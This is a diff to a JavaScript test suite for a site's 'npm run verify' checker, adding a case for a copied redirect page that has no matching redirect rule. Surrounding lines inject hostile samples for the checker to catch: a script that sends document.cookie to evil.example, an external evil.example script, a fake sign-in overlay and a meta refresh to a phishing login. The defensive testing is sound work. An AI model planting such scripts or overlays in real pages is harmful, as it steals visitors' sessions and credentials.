@@ -42,6 +42,8 @@ const HANDLER_PAGE = 'news/2026/03/01/late-evening-local-time/index.html';
 const LEAK_PAGE = 'news/2026/11/21/wire-story/index.html';
 const EXTERNAL_SCRIPT_PAGE = 'authors/ada-reporter/index.html';
 const INLINE_SCRIPT_PAGE = 'topics/water/index.html';
+/** A copy of a real alias redirect page, at an address no `_redirects` rule has. */
+const FAKE_REDIRECT_PAGE = '2026/07/river-trail-copy.html';
 const BIG_FILE = 'audio/huge/episode.mp3';
 const SVG_SCRIPT = '_astro/chart.Dx1a2b3c.svg';
 const SVG_ONLOAD = '_astro/map.Qz9y8x7w.svg';
@@ -68,6 +70,7 @@ describe('npm run verify against hostile output injected into a built site', () 
       LEAK_PAGE,
       '<p>Read on.</p></div><div class="live-player" style="position:fixed;inset:0;height:100vh">Your session expired. Sign in again.</div><div>',
     );
+    cpSync(join(HOSTILE, '2026/07/river-trail.html'), join(HOSTILE, FAKE_REDIRECT_PAGE));
     edit(EXTERNAL_SCRIPT_PAGE, (t) => t.replace('</body>', '<script src="https://evil.example/x.js"></script></body>'));
     edit(INLINE_SCRIPT_PAGE, (t) => t.replace('</main>', '<script>fetch("https://evil.example/?" + document.cookie)</script></main>'));
     appendFileSync(join(HOSTILE, '_redirects'), '/rss.xml /news/2026/11/21/wire-story/ 301\n/old/* /news/:splat 301\n');
@@ -101,6 +104,11 @@ describe('npm run verify against hostile output injected into a built site', () 
     expect(about(REFRESH_PAGE)).toContainEqual(
       expect.stringMatching(/has <meta http-equiv="refresh" .*sending readers to "0; url=https:\/\/evil\.example\/login", but it is not an alias redirect page/),
     );
+  });
+
+  it('takes a page for an alias redirect page only where _redirects has its alias', () => {
+    expect(about(FAKE_REDIRECT_PAGE)).toContainEqual(expect.stringMatching(/has <meta http-equiv="refresh" .*but it is not an alias redirect page/));
+    expect(about('2026/07/river-trail.html')).toEqual([]);
   });
 
   it('refuses a script from another site', () => {
@@ -147,7 +155,7 @@ describe('npm run verify against hostile output injected into a built site', () 
   });
 
   it('names no file it was not handed', () => {
-    const injected = new Set([REFRESH_PAGE, HANDLER_PAGE, LEAK_PAGE, EXTERNAL_SCRIPT_PAGE, INLINE_SCRIPT_PAGE, BIG_FILE, SVG_SCRIPT, SVG_ONLOAD, '_redirects']);
+    const injected = new Set([REFRESH_PAGE, FAKE_REDIRECT_PAGE, HANDLER_PAGE, LEAK_PAGE, EXTERNAL_SCRIPT_PAGE, INLINE_SCRIPT_PAGE, BIG_FILE, SVG_SCRIPT, SVG_ONLOAD, '_redirects']);
     const named = new Set(lines.map((l) => l.slice(4, l.indexOf(': '))));
     expect([...named].filter((f) => !injected.has(f))).toEqual([]);
     // Every file it was handed is in the copy, so a name cannot match by accident.
